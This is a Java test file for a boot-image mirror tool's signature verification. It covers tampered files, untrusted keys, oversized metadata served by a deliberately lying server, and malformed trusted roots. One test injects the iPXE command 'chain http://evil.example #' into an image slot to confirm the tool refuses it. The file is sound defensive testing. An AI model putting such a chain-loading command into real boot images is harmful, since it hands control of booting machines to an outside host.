package org.bootmirror.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import org.bootmirror.boot.OverlaidFile;
import org.bootmirror.content.Slot;
import org.bootmirror.overlay.SlotVariables;
import org.bootmirror.script.BaseUrl;
import org.bootmirror.serve.TreeServer;
import org.bootmirror.tree.TreePath;
import org.bootmirror.tuf.FolderSource;
import org.bootmirror.tuf.VerifiedRelease;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;

/** {@code bootmirror verify} of folders, servers and files, with a trusted root. */
@Tag("keys")
@Execution(ExecutionMode.CONCURRENT)
final class VerifyTest {

  @TempDir private static Path made;
  private static Path root;

  @TempDir private Path work;
  private final StringWriter said = new StringWriter();
  private Path tree;
  private TreeServer server;

  @BeforeAll
  static void generate() throws Exception {
    Path source = Files.createDirectories(made.resolve("source"));
    Files.writeString(
        source.resolve("site.toml"),
        """
        title = "verify"
        bases = ["http://boot.example"]
        images = ["krn", "uefi", "cloud"]
        [cloud]
        conf = "8 MiB"
        [kernels.memtest]
        amd64 = { package = "memtest86+", file = "mt86+x64", name = "memtest" }
        [networks.prod]
        title = "Production"
        kernels = ["memtest"]
        """);
    String keys = made.resolve("keys").toString();
    for (String[] command :
        new String[][] {
          {"keys", "new", keys},
          {"generate", "--source", source + "", "--out", made.resolve("tree") + "", "--keys", keys},
          {"keys", "export", keys, "--out", made.resolve("public") + ""}
        }) {
      WithPassphrase.Answer answer = WithPassphrase.run(command);
      assertThat(answer.status()).as(answer.text()).isZero();
    }
    root = made.resolve("public/tuf/1.root.json");
  }

  @BeforeEach
  void serve() throws Exception {
    tree = work.resolve("tree");
    new ProcessBuilder("cp", "-a", made.resolve("tree") + "", tree + "").start().waitFor();
    server =
        TreeServer.start(
            tree, new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), line -> {});
  }

  @AfterEach
  void stop() {
    server.close();
  }

  @Test
  void aTreeAndAServedTreeAreVerified() {
    assertThat(verify(tree.toString())).as(said.toString()).isZero();
    assertThat(verify(url())).as(said.toString()).isZero();

    assertThat(said.toString())
        .contains("all as signed; signed at ")
        .contains("BOOT SCRIPT BY")
        .containsPattern("UEFI amd64  NOTHING, until a");
    assertThat(run("check", url())).as(said.toString()).isZero();
  }

  @Test
  void aChangedFileIsNamed() throws IOException {
    change("ipxe/prod");

    assertThat(verify(tree.toString())).isEqualTo(1);
    assertThat(verify(url())).isEqualTo(1);
    assertThat(run("check", url())).isEqualTo(1);

    assertThat(said.toString()).contains("ipxe/prod: has ").contains("signed are");
  }

  @Test
  void anotherPublisherIsNotTrusted() throws Exception {
    assertThat(WithPassphrase.run("keys", "new", work.resolve("others") + "").status()).isZero();
    root = work.resolve("others/tuf/1.root.json");
    try {
      assertThat(verify(tree.toString())).isEqualTo(1);
      assertThat(verify(url())).isEqualTo(1);
    } finally {
      root = made.resolve("public/tuf/1.root.json");
    }
    assertThat(said.toString())
        .contains("tuf/timestamp.json: found 0 valid signatures of the role timestamp")
        .contains("Nothing of it is verified.");
  }

  @Test
  void aFileIsRecognisedWithAnyVariablesInItsSlot() throws Exception {
    Path plain = Files.copy(tree.resolve("uefi/prod.efi"), work.resolve("plain.efi"));
    assertThat(verify(plain.toString(), "--at", tree.toString())).as(said + "").isZero();
    for (String path : List.of("uefi/prod.efi", "krn/prod", "cloud/prod.img.gz")) {
      SlotVariables variables =
          SlotVariables.published(List.of(new BaseUrl(url())), Optional.empty()).withFarmer(1234);
      Path image = tree.resolve(path);
      Path own = OverlaidFile.write(image, slots(path), variables, work.resolve("own"));

      assertThat(verify(own.toString())).as(said.toString()).isZero();
      assertThat(said.toString())
          .contains("asking " + url())
          .containsPattern("own: is [^:]*" + path)
          .contains("  set farmer-id 1234");
    }
    assertThat(said.toString())
        .contains("plain.efi: is uefi/prod, uefi/prod.efi, bit by bit")
        .contains("but for the variables in its slot");
  }

  @Test
  void aSlotWithCommandsIsRefused() throws Exception {
    Path own = Files.copy(tree.resolve("krn/prod"), work.resolve("own"));
    Slot slot = slots("krn/prod").get(0);
    byte[] bytes = Files.readAllBytes(own);
    byte[] command = "chain http://evil.example #".getBytes(StandardCharsets.US_ASCII);
    System.arraycopy(command, 0, bytes, (int) slot.offset(), command.length);
    Files.write(own, bytes);

    assertThat(verify(own.toString(), "--at", tree.toString())).isEqualTo(1);

    assertThat(said.toString())
        .contains("would be krn/prod")
        .contains("its slot is refused (not-a-variable): line 1: found \"chain http://evil");
  }

  @Test
  void aFileThatNoReleaseHasIsRefused() throws IOException {
    Path own = Files.copy(tree.resolve("uefi/prod.efi"), work.resolve("own"));
    byte[] bytes = Files.readAllBytes(own);
    bytes[0x2000] ^= 1;
    Files.write(own, bytes);
    Path text = Files.writeString(work.resolve("text"), "hello");

    assertThat(verify(own.toString(), "--at", url())).isEqualTo(1);
    assertThat(verify(text.toString())).isEqualTo(1);

    assertThat(said.toString())
        .contains("own: is no file of this release: SHA-256 ")
        .contains("--at");
  }

  /** Metadata: each file up to its limit, and none behind one that is not signed. */
  @Test
  void endlessMetadataAreNotRead() throws IOException {
    Path image = tree.resolve("krn/prod");
    for (boolean announced : List.of(true, false)) {
      for (String[] command : new String[][] {{"URL"}, {image.toString(), "--at", "URL"}}) {
        try (LyingServer liar = liar("tuf/timestamp.json", "", announced)) {
          assertThat(verify(command[0].replace("URL", liar.url()), at(command, liar))).isOne();

          assertThat(liar.asked()).containsExactly("tuf/2.root.json", "tuf/timestamp.json");
          assertThat(liar.lied()).isLessThan(LyingServer.LIE / 8);
        }
        try (LyingServer liar = liar("tuf/[0-9]+.root.json", "", announced)) {
          assertThat(verify(command[0].replace("URL", liar.url()), at(command, liar))).isOne();

          assertThat(liar.asked()).containsExactly("tuf/2.root.json");
          assertThat(liar.lied()).isLessThan(LyingServer.LIE / 8);
        }
      }
    }
    assertThat(said.toString())
        .contains("tuf/timestamp.json: found more than 16384 bytes, expected at most 16384")
        .contains("tuf/2.root.json: found more than 524288 bytes, expected at most 524288");
  }

  @Test
  void aThousandFalseRootsAreOneQuestion() throws IOException {
    try (LyingServer liar = liar("tuf/[0-9]+.root.json", Files.readString(root), true)) {
      assertThat(verify(liar.url())).isOne();

      assertThat(liar.asked()).containsExactly("tuf/2.root.json");
    }
    assertThat(said.toString()).contains("tuf/2.root.json: signed.version: found 1, expected 2");
  }

  /** No file is read beyond its signed length; the others are downloaded nevertheless. */
  @Test
  void endlessFilesAreReadUpToTheirSignedLength() throws IOException {
    for (boolean announced : List.of(true, false)) {
      String lies = "SHA256SUMS|SHA256SUMS.minisig|index.html|[a-z]+/[0-9a-f]{64}.*";
      try (LyingServer liar = liar(lies, "", announced)) {
        assertThat(verify(liar.url(), "--verbose")).isOne();

        assertThat(liar.asked()).contains("SHA256SUMS", "index.html", "uefi/prod.efi", "ipxe/prod");
        assertThat(liar.lied()).isLessThan(LyingServer.LIE / 2);
      }
    }
    assertThat(said.toString())
        .contains("index.html: no whole answer: found " + LyingServer.LIE + " bytes, expected at")
        .contains("index.html: no whole answer: found more than ")
        .containsPattern("\nkernel/[0-9a-f]{64}[.]memtest: no whole answer: found more than ")
        .contains("SHA256SUMS: no whole answer: found ")
        .contains("SHA256SUMS.minisig: no whole answer: found ");
  }

  /** Without a trusted root, too, metadata are read up to their limits. */
  @Test
  void aCheckReadsNoEndlessMetadata() throws IOException {
    try (LyingServer liar = liar("tuf/(timestamp|2.root).json", "", false)) {
      assertThat(run("check", liar.url())).isOne();

      assertThat(liar.asked()).contains("tuf/1.root.json", "tuf/2.root.json", "uefi/prod.efi");
      assertThat(liar.lied()).isLessThan(LyingServer.LIE / 8);
    }
    assertThat(said.toString())
        .contains("tuf: tuf/2.root.json: found more than 524288 bytes, expected at most 524288");
  }

  /** A root of version 2^62, and a file that is no root at all, end in a message of ours. */
  @Test
  void aTrustedRootThatIsNoneIsRefused() throws IOException {
    Path wrong = work.resolve("root.json");
    String[] command = {"verify", tree.toString(), "--root", wrong.toString()};
    String right = Files.readString(root);
    Files.writeString(wrong, right.replace("\"version\":1", "\"version\":4611686018427387904"));
    assertThat(run(command)).isOne();
    Files.delete(wrong);
    assertThat(run(command)).isOne();
    Files.write(wrong, new byte[1 << 20]);
    assertThat(run(command)).isOne();
    assertThat(said.toString())
        .contains("error: the trusted root: signed.version: found 4611686018427387904, expected")
        .contains("root.json: found no such file, expected certificates", "from the publisher by")
        .contains("root.json: found more than 524288 bytes, expected certificates");
  }

  private LyingServer liar(String lies, String lie, boolean announced) throws IOException {
    return new LyingServer(tree, lies, lie.getBytes(StandardCharsets.UTF_8), announced);
  }

  private static String[] at(String[] command, LyingServer liar) {
    return command.length == 1 ? new String[0] : new String[] {"--at", liar.url()};
  }

  private List<Slot> slots(String path) throws IOException {
    return VerifiedRelease.of(Files.readAllBytes(root), new FolderSource(tree), Instant.now())
        .targets()
        .entrySet()
        .stream()
        .filter(one -> one.getKey().equals(path))
        .findFirst()
        .orElseThrow()
        .getValue()
        .slots();
  }

  private void change(String name) throws IOException {
    Path file = tree.resolve(new TreePath(name).value());
    String text = Files.readString(file);
    Files.delete(file);
    Files.writeString(file, text + "#\n");
  }

  private String url() {
    return "http://127.0.0.1:" + server.port();
  }

  private int verify(String what, String... more) {
    String[] command = new String[more.length + 4];
    command[0] = "verify";
    command[1] = what;
    command[2] = "--root";
    command[3] = root.toString();
    System.arraycopy(more, 0, command, 4, more.length);
    return run(command);
  }

  private int run(String... command) {
    PrintWriter out = new PrintWriter(said, true);
    return Bootmirror.run(out, out, command);
  }
}
